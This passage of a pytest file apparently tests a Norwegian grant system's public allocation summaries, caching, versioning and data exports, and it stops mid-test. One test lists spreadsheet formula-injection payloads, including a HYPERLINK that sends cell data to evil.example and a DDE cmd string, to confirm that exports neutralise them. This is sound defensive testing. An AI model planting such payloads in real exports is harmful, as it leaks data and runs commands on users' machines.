"""Outcomes through the web: the live tallies for IMDi, the public allocation summary (three languages, charts with
tables, versions, unpublishing, its cache), the open data downloads and the JSON API, and the scheme over the years.

The rounds are brought to their states by the real operations: formal check, proposal, approval, release,
withdrawal and appeal."""

import csv
import io
import json
import re
from datetime import datetime, timedelta

import pytest
from jsonschema import Draft4Validator
from openpyxl import load_workbook
from sqlalchemy import select

from grants.accounts.models import Role, UserStatus
from grants.applications.operations import withdraw_application
from grants.core.audit import AuditEntry
from grants.core.timeutil import now_utc, oslo_date
from grants.decisions import operations as decision_ops
from grants.errors import InvalidTransition
from grants.extensions import db
from grants.i18n import language
from grants.outcomes import cache, publishing
from grants.outcomes.exports import COLUMNS, FIELDS, KEYS
from grants.outcomes.models import AllocationSummary
from grants.outcomes.views import counts_in_words
from grants.review import operations as ops
from grants.rounds.operations import set_criteria
from tests.conftest import FreshRequestClient, login, make_app
from tests.factories import ApplicationFactory, RoundFactory, UserFactory, municipal_user, submitted_application
from tests.giving360 import errors as giving_errors

# The rules of the 360Giving Data Standard's JSON package, written out here: the required fields of a grant and of
# an organisation, the types, the date forms, and the standard's own names for every field this export uses (an
# export with a misspelt field would validate against the standard, which allows extra fields, and be ignored by
# its tools; here it fails).
_DAY = r"^[0-9]{4}-(0[1-9]|1[012])-(0[1-9]|[12][0-9]|3[01])$"
_ORGANISATION = {"type": "object", "required": ["id", "name"],
                 "properties": {"id": {"type": "string", "minLength": 1}, "name": {"type": "string", "minLength": 1}}}
_GRANT_FIELDS = ["id", "title", "description", "currency", "amountAppliedFor", "amountAwarded", "amountDisbursed",
                 "awardDate", "url", "plannedDates", "actualDates", "recipientOrganization", "beneficiaryLocation",
                 "fundingOrganization", "grantProgramme", "fromOpenCall", "fundingType", "classifications",
                 "relatedDocument", "applicationTransaction", "commitmentTransaction", "disbursementTransaction",
                 "relatedActivity", "dateModified", "dataSource"]
GIVING_PACKAGE = {
    "type": "object",
    "required": ["grants"],
    "additionalProperties": False,
    "properties": {
        "grants": {"type": "array", "minItems": 1, "uniqueItems": True, "items": {
            "type": "object",
            "required": ["id", "title", "description", "currency", "amountAwarded", "awardDate",
                         "recipientOrganization", "fundingOrganization"],
            "additionalProperties": False,
            "properties": {
                **{name: {} for name in _GRANT_FIELDS},
                "id": {"type": "string", "pattern": "^360G-"},
                "title": {"type": "string", "minLength": 1, "maxLength": 140},
                "description": {"type": "string", "minLength": 1},
                "currency": {"enum": ["NOK"]},
                "amountAwarded": {"type": "integer", "minimum": 1},
                "awardDate": {"type": "string", "pattern": _DAY},
                "recipientOrganization": {"type": "array", "minItems": 1, "items": _ORGANISATION},
                "fundingOrganization": {"type": "array", "minItems": 1, "items": _ORGANISATION},
                "grantProgramme": {"type": "array", "items": {
                    "type": "object", "additionalProperties": False,
                    "properties": {"code": {"type": "string"}, "title": {"type": "string"}, "url": {"type": "string"},
                                   "description": {"type": "string"}, "dateModified": {"type": "string"}}}},
                "fromOpenCall": {"enum": ["Yes", "No"]},
                "beneficiaryLocation": {"type": "array", "items": {
                    "type": "object", "additionalProperties": False,
                    "properties": {"id": {"type": "string"}, "name": {"type": "string"},
                                   "countryCode": {"type": "string", "pattern": "^[A-Z]{2}$"},
                                   "latitude": {}, "longitude": {}, "description": {}, "dateModified": {},
                                   "geoCode": {"type": "string"}, "geoCodeType": {"type": "string"}}}},
                "dateModified": {"type": "string"},
                "dataSource": {"type": "string", "pattern": "^https?://"},
            },
        }},
        "version": {"type": "string", "pattern": r"^\d+\.\d+$"},
        "title": {"type": "string"},
        "description": {"type": "string"},
        "issued": {"type": "string", "pattern": _DAY},
        "modified": {"type": "string"},
        "identifier": {"type": "string"},
        "publisher": {"type": "object", "required": ["name"]},
        "downloadURL": {"type": "string"},
        "accessURL": {"type": "string"},
        "license": {"type": "string"},
    },
}


def assert_360giving(package):
    assert giving_errors(package) == []  # the standard's own schema first, then the stricter rules above
    errors = sorted(Draft4Validator(GIVING_PACKAGE).iter_errors(package), key=lambda e: list(e.path))
    assert not errors, "\n".join(f"{list(e.path)}: {e.message}" for e in errors)
    for grant in package["grants"]:  # full date-times, as the standard asks for dateModified
        assert datetime.fromisoformat(grant["dateModified"]).tzinfo is not None


NBSP = "\u00a0"
CHECKS = dict(eligible_applicant=True, in_time=True, complete=True, within_scheme=True, conditions_met=True)
REASONS = {"rules": "Utlysningen punkt 3", "facts": "Svak forankring", "considerations": "Andre prosjekter var bedre"}


def kr(amount, lang="nb"):
    """Whole kroner as a page in ``lang`` writes them: "300 000 kr", or "NOK 300,000" in English."""
    if lang == "en":
        return f"NOK{NBSP}{amount:,}"
    return f"{amount:,}".replace(",", NBSP) + f"{NBSP}kr"


@pytest.fixture
def people(app):
    people = {
        "caseworker": UserFactory(role=Role.caseworker, name="Kari Saksbehandler"),
        "approver": UserFactory(role=Role.approver, name="Per Godkjenner"),
        "admin": UserFactory(role=Role.admin, name="Ada Admin"),
        "reviewer": UserFactory(role=Role.reviewer, name="Rita Fagvurderer"),
        "reviewer2": UserFactory(role=Role.reviewer, name="Rolf Fagvurderer"),
        "staff": municipal_user("0301", name="Ola Kommune", email="ola@oslo.kommune.no"),
    }
    db.session.commit()
    return people


def closed_round(**kwargs):
    values = dict(closed=True, budget=1_000_000, appeals_allowed=True)
    values.update(kwargs)
    return RoundFactory(**values)


def with_summary(text):
    return {"snapshot": {"answers": {"project": {"summary": [text]}}}}


# --- the real operations, one application at a time ---------------------------------------------------------------

def in_review(round_, people, **kwargs):
    application = submitted_application(round_, **kwargs)
    ops.formal_check(application, people["caseworker"], checks=CHECKS, accept=True)
    return application


def grant(round_, people, amount, **kwargs):
    application = in_review(round_, people, **kwargs)
    decision = decision_ops.propose_decision(application, people["caseworker"], outcome="granted", amount=amount)
    decision_ops.approve_decision(decision, people["approver"])
    return application


def reject(round_, people, **kwargs):
    application = in_review(round_, people, **kwargs)
    decision = decision_ops.propose_decision(application, people["caseworker"], outcome="rejected", reasons=REASONS)
    decision_ops.approve_decision(decision, people["approver"])
    return application


def dismiss(round_, people, **kwargs):
    application = submitted_application(round_, **kwargs)
    ops.formal_check(application, people["caseworker"], checks={**CHECKS, "in_time": False}, accept=False,
                     reason_code="late", reason_text="Kom inn etter fristen.")
    decision_ops.approve_decision(decision_ops.current_decision(application), people["approver"])
    return application


def withdraw(round_, people, **kwargs):
    application = submitted_application(round_, **kwargs)
    withdraw_application(application, people["staff"], "Vi trekker søknaden")
    return application


def release(round_, people):
    decision_ops.release_round(round_, people["approver"])
    db.session.commit()


@pytest.fixture
def decided(app, people):
    """A closed 2025 round, every decision released: 6 received (2 granted, 2 rejected, 2 dismissed), one
    withdrawn, one draft never submitted."""
    round_ = closed_round()
    apps = {
        "oslo": grant(round_, people, 300_000, number="0301", title="Kartlegging av diskriminering i Oslo",
                      **with_summary("Oslo kartlegger diskriminering i kommunale tjenester.")),
        "kinn": grant(round_, people, 200_000, number="4602", title="Handlingsplan for Kinn",
                      **with_summary("Kinn lager en handlingsplan mot rasisme.")),
        "bergen": reject(round_, people, number="4601", title="Avslått prosjekt i Bergen"),
        "oslo_rejected": reject(round_, people, number="0301", title="Avslått prosjekt i Oslo"),
        "trondheim": dismiss(round_, people, number="5001", title="Avvist prosjekt i Trondheim"),
        "stavanger": dismiss(round_, people, number="1103", title="Avvist prosjekt i Stavanger"),
        "withdrawn": withdraw(round_, people, number="0301", title="Trukket prosjekt"),
        "draft": ApplicationFactory(round=round_, title="Utkast som aldri ble sendt"),
    }
    release(round_, people)
    return round_, apps


def publish(round_, people, note=None):
    summary = publishing.publish(round_, people["admin"], note)
    db.session.commit()
    return summary


def client_for(app, user):
    client = app.test_client()
    login(client, user)
    return client


def switch_language(client, lang):
    assert client.post("/sprak", data={"lang": lang}).status_code == 302


def figures(page):
    """The (term, value) pairs of the tally page's summary list, in order."""
    return [(term.strip(), value.strip()) for term, value in
            re.findall(r"<dt>(.*?)</dt>\s*<dd>(.*?)</dd>", page, re.S)]


def table_after(page, caption):
    """The rows (lists of cell texts) of the table with this caption."""
    table = page.split(caption + "</caption>", 1)[1].split("</table>", 1)[0]
    return [[re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", row, re.S)]
            for row in re.findall(r"<tr>(.*?)</tr>", table, re.S)]


# --- 1. tallies for IMDi -------------------------------------------------------------------------------------------

@pytest.fixture
def live(app, people):
    """A round being worked on: one application released in each outcome, two still open (one of them with two
    reviewers, one review submitted), one withdrawn, one draft."""
    round_ = closed_round(budget=2_000_000)
    set_criteria(round_, [{"code": "purpose", "weight": 1, "title_nb": "Formål", "title_nn": "Føremål",
                           "title_en": "Purpose"}])
    db.session.flush()
    grant(round_, people, 250_000, number="4602", amount_applied=300_000)
    reject(round_, people, number="0301", amount_applied=120_000)
    dismiss(round_, people, number="4601", amount_applied=80_000)
    release(round_, people)
    open_ = in_review(round_, people, number="0301", amount_applied=200_000)
    submitted_application(round_, number="5001", amount_applied=100_000)
    withdraw(round_, people, number="0301", amount_applied=90_000)
    ApplicationFactory(round=round_, amount_applied=500_000)
    for key in ("reviewer", "reviewer2"):
        ops.add_round_reviewer(round_, people[key], people["caseworker"])
        ops.assign(open_, people[key], people["caseworker"])
        ops.declare(open_, people[key], conflict=False)
    ops.save_review(open_, people["reviewer"], values={round_.criteria[0].id: 5}, comments={},
                    recommendation="grant", submit=True)
    db.session.commit()
    return round_


def tally_url(round_):
    return f"/saksbehandling/runder/{round_.id}/tall"


@pytest.mark.parametrize("role", ["caseworker", "admin", "approver"])
def test_the_tally_page_shows_a_live_rounds_figures(client, login_as, people, live, role):
    login_as(people[role])
    response = client.get(tally_url(live))
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert figures(page) == [
        ("Mottatt", "5"), ("Innvilget", "1"), ("Avslått", "1"), ("Avvist", "1"), ("Fortsatt åpen", "2"),
        ("Trukket", "1"), ("Tilskudd kommunen har takket nei til", "0"), ("Utkast som ikke er sendt inn", "1"),
        ("Omsøkt", kr(300_000 + 120_000 + 80_000 + 200_000 + 100_000)), ("Innvilget", kr(250_000)),
        ("Budsjett", kr(2_000_000)), ("Gjenstår", kr(1_750_000)),
        ("Nye prosjekter", "5"), ("Videreføringer", "0"), ("Innsendte fagvurderinger", "1 av 2"),
    ]
    by_county = {row[0]: row[1:] for row in table_after(page, "Per fylke") if row and row[0] != "Fylke"}
    assert by_county == {"Oslo": ["2", "0", kr(0)], "Vestland": ["2", "1", kr(250_000)],
                         "Trøndelag": ["1", "0", kr(0)]}
    # Only an administrator may publish.
    assert ("/publiser" in page) == (role == "admin")


def test_the_tally_page_is_refused_to_kommune_staff_reviewers_and_anonymous(client, login_as, people, live):
    anonymous = client.get(tally_url(live))
    assert anonymous.status_code == 302 and "/konto/logg-inn" in anonymous.headers["Location"]
    for key in ("staff", "reviewer"):
        login_as(people[key])
        assert client.get(tally_url(live)).status_code == 403, key


def test_the_tally_page_runs_the_same_number_of_statements_for_a_small_and_a_larger_round(
        client, login_as, people, live, count_queries):
    login_as(people["caseworker"])
    db.session.commit()  # both requests begin a transaction of their own
    with count_queries() as small:
        assert client.get(tally_url(live)).status_code == 200
    for i, number in enumerate(["0301", "4601", "4602", "5001", "1103", "3301", "1804", "5501"] * 5):
        application = in_review(live, people, number=number, amount_applied=10_000 + i)
        if i % 3 == 0:
            ops.assign(application, people["reviewer"], people["caseworker"])
    withdraw(live, people, number="0301")
    db.session.commit()
    with count_queries() as larger:
        page = client.get(tally_url(live)).get_data(as_text=True)
    assert ("Mottatt", "45") in figures(page)
    assert small.count == larger.count, "\n\n".join(small.statements + ["-----"] + larger.statements)


# --- 2. the allocation summary --------------------------------------------------------------------------------

def test_publishing_is_refused_until_every_decision_is_released(app, client, people):
    round_ = closed_round()
    grant(round_, people, 100_000)
    approved_not_released = in_review(round_, people)
    decision = decision_ops.propose_decision(approved_not_released, people["caseworker"], outcome="rejected",
                                    reasons=REASONS)
    decision_ops.approve_decision(decision, people["approver"])
    db.session.commit()
    with pytest.raises(InvalidTransition):
        publishing.publish(round_, people["admin"])
    db.session.rollback()

    admin = client_for(app, people["admin"])
    response = admin.post(f"/saksbehandling/runder/{round_.id}/publiser")
    assert response.status_code == 302 and response.headers["Location"].endswith(tally_url(round_))
    assert "2 søknader har ikke fått et utsendt vedtak ennå" in admin.get(tally_url(round_)).get_data(as_text=True)
    assert db.session.scalar(select(AllocationSummary)) is None
    assert client.get(f"/tildelinger/{round_.id}").status_code == 404

    # Only an administrator publishes, even once everything is released.
    release(round_, people)
    caseworker = client_for(app, people["caseworker"])
    assert caseworker.post(f"/saksbehandling/runder/{round_.id}/publiser").status_code == 403
    assert db.session.scalar(select(AllocationSummary)) is None
    response = admin.post(f"/saksbehandling/runder/{round_.id}/publiser")
    assert response.status_code == 302 and response.headers["Location"].endswith(f"/tildelinger/{round_.id}")
    assert db.session.scalar(select(AllocationSummary)).version == 1


def test_publishing_is_refused_before_the_deadline(app, people):
    round_ = RoundFactory()  # still open for applications
    grant(round_, people, 100_000)
    release(round_, people)
    with pytest.raises(InvalidTransition):
        publishing.publish(round_, people["admin"])


@pytest.mark.parametrize("lang, words, heading", [
    ("nb", "6 søknader: 2 innvilget, 2 avslått, 2 avvist", "Innvilgede beløp per fylke"),
    ("nn", "6 søknader: 2 innvilga, 2 avslåtte, 2 avviste", "Innvilga beløp per fylke"),
    ("en", "6 applications: 2 granted, 2 rejected, 2 dismissed", "Amounts granted by county"),
])
def test_the_public_summary_in_each_language(client, people, decided, lang, words, heading):
    round_, _apps = decided
    publish(round_, people)
    if lang != "nb":
        switch_language(client, lang)
    response = client.get(f"/tildelinger/{round_.id}")  # no login
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert f'lang="{lang}"' in page
    assert words in page
    title = {"nb": round_.title_nb, "nn": round_.title_nn, "en": round_.title_en}[lang]
    assert title in page
    grants_table = page.split('id="grants-heading"', 1)[1].split("</table>", 1)[0]
    for kommune, project, summary, amount in (
            ("Oslo", "Kartlegging av diskriminering i Oslo", "Oslo kartlegger diskriminering i kommunale tjenester.",
             300_000),
            ("Kinn", "Handlingsplan for Kinn", "Kinn lager en handlingsplan mot rasisme.", 200_000)):
        row = next(r for r in grants_table.split("<tr>") if project in r)
        assert kommune in row and summary in row and kr(amount, lang) in row
    assert kr(500_000, lang) in grants_table.split("<tfoot>", 1)[1]  # the total
    for absent in ("Avslått prosjekt", "Avvist prosjekt", "Trukket prosjekt", "Utkast som aldri"):
        assert absent not in page
    assert kr(1_000_000, lang) in page and kr(6 * 400_000, lang) in page  # budget and amount applied for

    # Two charts, each an SVG with a title, and a table beside it for screen readers.
    pairs = page.split('<div class="chart-pair">')[1:]
    assert len(pairs) == 2
    for pair in pairs:
        assert '<svg xmlns="http://www.w3.org/2000/svg" role="img"' in pair and "<title id=" in pair
        assert '<div aria-hidden="true"><svg' in pair and "<table" in pair and "<caption>" in pair
    assert heading in pairs[1]
    outcomes = table_after(page, pairs[0].split("<caption>", 1)[1].split("</caption>", 1)[0])
    assert [row[1] for row in outcomes[1:]] == ["6", "2", "2", "2", "1"]  # received, granted, ..., withdrawn
    counties = {row[0]: row[1:] for row in table_after(page, heading)[1:]}
    assert counties == {"Oslo": ["1", kr(300_000, lang)], "Vestland": ["1", kr(200_000, lang)]}


@pytest.mark.parametrize("lang, counts, words", [
    ("nb", (1, 1, 0, 0), "1 søknad: 1 innvilget, 0 avslått, 0 avvist"),
    ("nb", (3, 1, 1, 1), "3 søknader: 1 innvilget, 1 avslått, 1 avvist"),
    ("nb", (6, 2, 2, 2), "6 søknader: 2 innvilget, 2 avslått, 2 avvist"),
    ("nn", (1, 0, 1, 0), "1 søknad: 0 innvilga, 1 avslått, 0 avviste"),
    ("nn", (3, 1, 1, 1), "3 søknader: 1 innvilga, 1 avslått, 1 avvist"),
    ("nn", (6, 2, 2, 2), "6 søknader: 2 innvilga, 2 avslåtte, 2 avviste"),
    ("en", (1, 1, 0, 0), "1 application: 1 granted, 0 rejected, 0 dismissed"),
    ("en", (6, 2, 2, 2), "6 applications: 2 granted, 2 rejected, 2 dismissed"),
])
def test_counts_in_words_agree_with_their_numbers(app, lang, counts, words):
    received, granted, rejected, dismissed = counts
    with app.test_request_context(), language(lang):
        assert counts_in_words({"received": received, "granted": granted, "rejected": rejected,
                                "dismissed": dismissed, "withdrawn": 0}) == words


def appeal_and_reverse(people, application, amount):
    """The kommune appeals its rejection; IMDi reverses it to a grant, approved and released."""
    decision = decision_ops.current_decision(application)
    appeal = decision_ops.lodge_appeal(decision, people["staff"], "Vi klager på avslaget")
    new = decision_ops.reverse_appeal(appeal, people["caseworker"], "Ny vurdering", outcome="granted", amount=amount)
    decision_ops.approve_decision(new, people["approver"])
    release(application.round, people)


def test_a_correction_is_a_new_version_the_old_stays_readable_and_the_cache_is_dropped(app, client, people,
                                                                                      decided):
    round_, apps = decided
    admin = client_for(app, people["admin"])
    assert admin.post(f"/saksbehandling/runder/{round_.id}/publiser").status_code == 302
    url = f"/tildelinger/{round_.id}"

    first = client.get(url).get_data(as_text=True)  # anonymous: the whole page goes into the cache
    assert "6 søknader: 2 innvilget, 2 avslått, 2 avvist" in first and kr(500_000) in first
    assert cache.get(round_.id, "page:nb") is not None
    english = app.test_client()  # another anonymous visitor, in English: cached under its own key
    switch_language(english, "en")
    assert "6 applications: 2 granted, 2 rejected, 2 dismissed" in english.get(url).get_data(as_text=True)
    assert cache.get(round_.id, "page:en") is not None
    assert "Kartlegging av diskriminering i Oslo" in admin.get(url).get_data(as_text=True)  # the body is cached too

    # Oslo's rejection is reversed on appeal: the published v1 does not change by itself.
    appeal_and_reverse(people, apps["oslo_rejected"], 150_000)
    still = client.get(url).get_data(as_text=True)
    assert "6 søknader: 2 innvilget, 2 avslått, 2 avvist" in still and "Avslått prosjekt i Oslo" not in still
    assert db.session.scalar(select(AllocationSummary)).data["amount_granted"] == 500_000

    # A correction needs a note.
    assert admin.post(f"/saksbehandling/runder/{round_.id}/publiser", data={"note": "  "}).status_code == 302
    assert len(db.session.scalars(select(AllocationSummary)).all()) == 1
    note = "Rettet etter klage: Oslo fikk innvilget sitt andre prosjekt."
    assert admin.post(f"/saksbehandling/runder/{round_.id}/publiser", data={"note": note}).status_code == 302
    versions = db.session.scalars(select(AllocationSummary).order_by(AllocationSummary.version)).all()
    assert [(v.version, v.note) for v in versions] == [(1, None), (2, note)]

    latest = client.get(url).get_data(as_text=True)  # anonymous again: the new version, not the cached old one
    assert "6 søknader: 3 innvilget, 1 avslått, 2 avvist" in latest
    assert "Avslått prosjekt i Oslo" in latest and kr(650_000) in latest and note in latest
    assert "Avslått prosjekt i Oslo" in admin.get(url).get_data(as_text=True)  # and the logged-in body too
    assert "6 applications: 3 granted, 1 rejected, 2 dismissed" in english.get(url).get_data(as_text=True)

    # Both versions keep their own addresses, and the page lists them.
    old = client.get(f"{url}/v/1").get_data(as_text=True)
    assert "6 søknader: 2 innvilget, 2 avslått, 2 avvist" in old and "Avslått prosjekt i Oslo" not in old
    assert kr(500_000) in old.split("<tfoot>", 1)[1]
    assert note in client.get(f"{url}/v/2").get_data(as_text=True)
    assert f'href="{url}/v/1"' in latest and f'href="{url}/v/2"' in latest
    assert client.get(f"{url}/v/3").status_code == 404

    # The stored content of v1 was never touched.
    assert versions[0].data["amount_granted"] == 500_000 and versions[1].data["amount_granted"] == 650_000
    assert [e.detail["version"] for e in db.session.scalars(
        select(AuditEntry).where(AuditEntry.action == "publish").order_by(AuditEntry.id))] == [1, 2]


def test_an_anonymous_visitor_gets_the_cached_summary_without_a_session(app, people, decided, database_url,
                                                                          instance_dir):
    # The whole page is the same for every anonymous visitor: no session cookie is set and no CSRF token is in
    # it (the language switch of an anonymous visitor takes none), even with CSRF protection on.
    round_, _apps = decided
    publish(round_, people)
    kommune = municipal_user(status=UserStatus.active)
    guarded = make_app(database_url, instance_dir, WTF_CSRF_ENABLED=True)
    guarded.test_client_class = FreshRequestClient
    url = f"/tildelinger/{round_.id}"
    pages = []
    for _visitor in range(2):  # the first renders and caches, the second is served from the cache
        response = guarded.test_client().get(url)
        assert response.status_code == 200
        assert "Set-Cookie" not in response.headers
        pages.append(response.get_data(as_text=True))
    assert pages[0] == pages[1]
    assert "csrf_token" not in pages[1] and "csrf-slot" not in pages[1]
    assert 'action="/sprak"' in pages[1]
    visitor = guarded.test_client()  # the form works as it is, from this site
    assert visitor.post("/sprak", data={"lang": "en", "next": url}, headers={"Origin": "http://localhost"}
                        ).status_code == 302
    assert "6 applications: 2 granted" in visitor.get(url).get_data(as_text=True)

    staff = guarded.test_client()  # logged in: the language switch carries the session's token
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"',
                      staff.get("/konto/logg-inn").get_data(as_text=True)).group(1)
    assert staff.post("/konto/logg-inn", data={"email": kommune.email, "password": "correct horse battery",
                                               "csrf_token": token}).status_code == 302
    switch = staff.get(url).get_data(as_text=True).split('action="/sprak"', 1)[1].split("</form>", 1)[0]
    assert 'name="csrf_token"' in switch


def test_unpublishing_is_recorded_and_the_public_page_then_404s(app, client, people, decided):
    round_, _apps = decided
    summary = publish(round_, people)
    url = f"/tildelinger/{round_.id}"
    assert client.get(url).status_code == 200  # cached for anonymous visitors
    admin = client_for(app, people["admin"])

    refused = admin.post(f"/saksbehandling/sammendrag/{summary.id}/avpubliser", data={"reason": ""})
    assert refused.status_code == 302
    assert db.session.get(AllocationSummary, summary.id).unpublished_at is None
    caseworker = client_for(app, people["caseworker"])
    assert caseworker.post(f"/saksbehandling/sammendrag/{summary.id}/avpubliser",
                           data={"reason": "Feil"}).status_code == 403

    reason = "Feil beløp for Kinn"
    assert admin.post(f"/saksbehandling/sammendrag/{summary.id}/avpubliser",
                      data={"reason": reason}).status_code == 302
    stored = db.session.get(AllocationSummary, summary.id)
    assert stored.unpublished_at is not None and stored.unpublished_by_id == people["admin"].id
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "unpublish"))
    assert (entry.actor_id, entry.object_id, entry.reason) == (people["admin"].id, summary.id, reason)

    assert client.get(url).status_code == 404  # the cached page is gone
    assert admin.get(url).status_code == 404
    version = client.get(f"{url}/v/1").get_data(as_text=True)  # the version's own address says so
    for fmt in ("csv", "xlsx", "json", "360giving.json"):  # and its data is no longer handed out
        assert client.get(f"{url}/v/1/tildelinger.{fmt}").status_code == 404, fmt
    assert "Denne versjonen ble avpublisert" in version and reason in version
    assert client.get("/api/v1/rounds").get_json() == {"rounds": []}
    missing = client.get(f"/api/v1/rounds/{round_.id}/summary")
    assert missing.status_code == 404 and missing.get_json()["error"] == 404
    assert "Ingen tildelingsoversikter er publisert ennå." in client.get(
        f"/ordningen/{round_.scheme.slug}").get_data(as_text=True)
    # Unpublishing twice is refused.
    with pytest.raises(InvalidTransition):
        publishing.unpublish(stored, people["admin"], "Igjen")
    db.session.rollback()

    # Published again (a new version with a note), the round is back.
    publish(round_, people, note="Kinns beløp kontrollert")
    page = client.get(url).get_data(as_text=True)
    assert "Kinns beløp kontrollert" in page and "Versjon 2" in page


def test_unpublishing_a_correction_leaves_the_earlier_version_public(app, client, people, decided):
    round_, _apps = decided
    publish(round_, people)
    second = publish(round_, people, note="Ny merknad")
    assert "Ny merknad" in client.get(f"/tildelinger/{round_.id}").get_data(as_text=True)
    publishing.unpublish(second, people["admin"], "Merknaden var feil")
    db.session.commit()
    page = client.get(f"/tildelinger/{round_.id}").get_data(as_text=True)
    assert "Versjon 1, publisert" in page and "Ny merknad</" not in page.split("All versions")[0]
    assert client.get(f"/api/v1/rounds/{round_.id}/summary").get_json()["version"] == 1


# --- 3. open data and the API ------------------------------------------------------------------------------------

def download(client, round_, version, fmt):
    response = client.get(f"/tildelinger/{round_.id}/v/{version}/tildelinger.{fmt}")
    assert response.status_code == 200, fmt
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="tildelinger-{round_.year}-v{version}.{fmt}"')
    return response


def test_downloads_in_every_format_at_a_versions_stable_address(client, people, decided):
    round_, apps = decided
    publish(round_, people)

    response = download(client, round_, 1, "csv")
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert {(r["reference"], r["municipality"], r["title"], r["amount"]) for r in rows} == {
        (apps["oslo"].reference, "Oslo", "Kartlegging av diskriminering i Oslo", "300000"),
        (apps["kinn"].reference, "Kinn", "Handlingsplan for Kinn", "200000"),
    }

    sheet = load_workbook(io.BytesIO(download(client, round_, 1, "xlsx").data)).active
    amounts = {sheet.cell(row=r, column=FIELDS.index("title") + 1).value:
               sheet.cell(row=r, column=FIELDS.index("amount") + 1).value for r in range(2, sheet.max_row)}
    assert amounts == {"Kartlegging av diskriminering i Oslo": 300_000, "Handlingsplan for Kinn": 200_000}
    assert sheet.cell(row=sheet.max_row, column=FIELDS.index("amount") + 1).value == 500_000  # the total row

    data = json.loads(download(client, round_, 1, "json").data)
    assert data["version"] == 1 and data["counts"] == {"received": 6, "granted": 2, "rejected": 2, "dismissed": 2,
                                                       "withdrawn": 1}
    assert data["amount_granted"] == 500_000 and isinstance(data["amount_granted"], int)

    package = json.loads(download(client, round_, 1, "360giving.json").data)
    assert_360giving(package)
    giving = package["grants"]
    by_id = {g["id"]: g for g in giving}
    oslo = by_id[f"360G-imdi-{apps['oslo'].reference}"]
    assert oslo["amountAwarded"] == 300_000 and oslo["currency"] == "NOK"
    # Oslo kommune by its organisation number in the Enhetsregisteret (grants/data/organisation_numbers.csv)
    assert oslo["recipientOrganization"][0] == {"id": "NO-BRC-958935420", "name": "Oslo"}
    assert oslo["description"] == "Oslo kartlegger diskriminering i kommunale tjenester."
    assert oslo["awardDate"] == oslo_date(now_utc()).isoformat() or oslo["awardDate"] == (
        now_utc().date().isoformat())
    assert oslo["dataSource"].endswith(f"/tildelinger/{round_.id}/v/1")
    assert {g["beneficiaryLocation"][0]["geoCode"] for g in giving} == {"03", "46"}
    assert oslo["grantProgramme"][0]["url"].endswith(f"/utlysninger/{round_.id}")

    # The address of v1 keeps its content after a correction, and v2 has its own.
    publish(round_, people, note="Retting")
    assert download(client, round_, 1, "csv").get_data(as_text=True) == text
    assert json.loads(download(client, round_, 2, "json").data)["note"] == "Retting"
    assert client.get(f"/tildelinger/{round_.id}/v/3/tildelinger.csv").status_code == 404
    assert client.get(f"/tildelinger/{round_.id}/v/1/tildelinger.pdf").status_code == 404
    assert client.get(f"/tildelinger/{round_.id + 99}/v/1/tildelinger.json").status_code == 404


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Klikk her")', "+47 22 00 00 00 prosjekt", "-1+2 kartlegging",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_a_title_that_starts_a_formula_is_inert_in_csv_and_xlsx(client, people):
    round_ = closed_round(budget=4_000_000)
    for i, title in enumerate(FORMULAS):
        grant(round_, people, 100_000 + i, number=["0301", "4601", "4602", "5001"][i], title=title,
              **with_summary("=1+1" if i == 0 else "Vanlig tekst"))
    release(round_, people)
    publish(round_, people)

    text = download(client, round_, 1, "csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert sorted(r["title"] for r in rows) == sorted("'" + t for t in FORMULAS)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    # The XLSX keeps each title exactly as typed, in a string cell that is never run as a formula.
    sheet = load_workbook(io.BytesIO(download(client, round_, 1, "xlsx").data)).active
    titles = [sheet.cell(row=r, column=FIELDS.index("title") + 1) for r in range(2, sheet.max_row)]
    assert sorted(c.value for c in titles) == sorted(FORMULAS)
    assert {c.data_type for c in titles} == {"s"}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value)

    # JSON is not a spreadsheet: the title stays as written there.
    api = client.get(f"/api/v1/rounds/{round_.id}/summary").get_json()
    assert sorted(g["title"] for g in api["grants"]) == sorted(FORMULAS)


def test_the_api_lists_published_rounds_and_gives_a_summary_in_whole_kroner(client, people, decided):
    round_, apps = decided
    unpublished = closed_round(slug="uten-oversikt")
    db.session.commit()
    publish(round_, people)

    rounds = client.get("/api/v1/rounds")
    assert rounds.status_code == 200 and rounds.mimetype == "application/json"
    listed = rounds.get_json()["rounds"]
    assert [r["id"] for r in listed] == [round_.id]
    entry = listed[0]
    assert entry["year"] == 2025 and entry["budget"] == 1_000_000 and entry["summary_version"] == 1
    assert entry["title"] == {"nb": round_.title_nb, "nn": round_.title_nn, "en": round_.title_en}
    assert entry["summary_url"].endswith(f"/api/v1/rounds/{round_.id}/summary")

    summary = client.get(f"/api/v1/rounds/{round_.id}/summary").get_json()
    assert summary["counts"] == {"received": 6, "granted": 2, "rejected": 2, "dismissed": 2, "withdrawn": 1}
    assert summary["amounts"] == {"currency": "NOK", "budget": 1_000_000, "applied": 2_400_000, "granted": 500_000}
    for value in (*summary["counts"].values(), *(v for k, v in summary["amounts"].items() if k != "currency")):
        assert type(value) is int
    assert {(g["municipality"], g["title"], g["amount"]) for g in summary["grants"]} == {
        ("Oslo", "Kartlegging av diskriminering i Oslo", 300_000), ("Kinn", "Handlingsplan for Kinn", 200_000)}
    assert all(type(g["amount"]) is int for g in summary["grants"])
    assert set(summary["downloads"]) == {"csv", "xlsx", "json", "360giving.json"}
    assert summary["downloads"]["csv"].endswith(f"/tildelinger/{round_.id}/v/1/tildelinger.csv")

    for url in (f"/api/v1/rounds/{unpublished.id}/summary", f"/api/v1/rounds/{round_.id + 999}/summary",
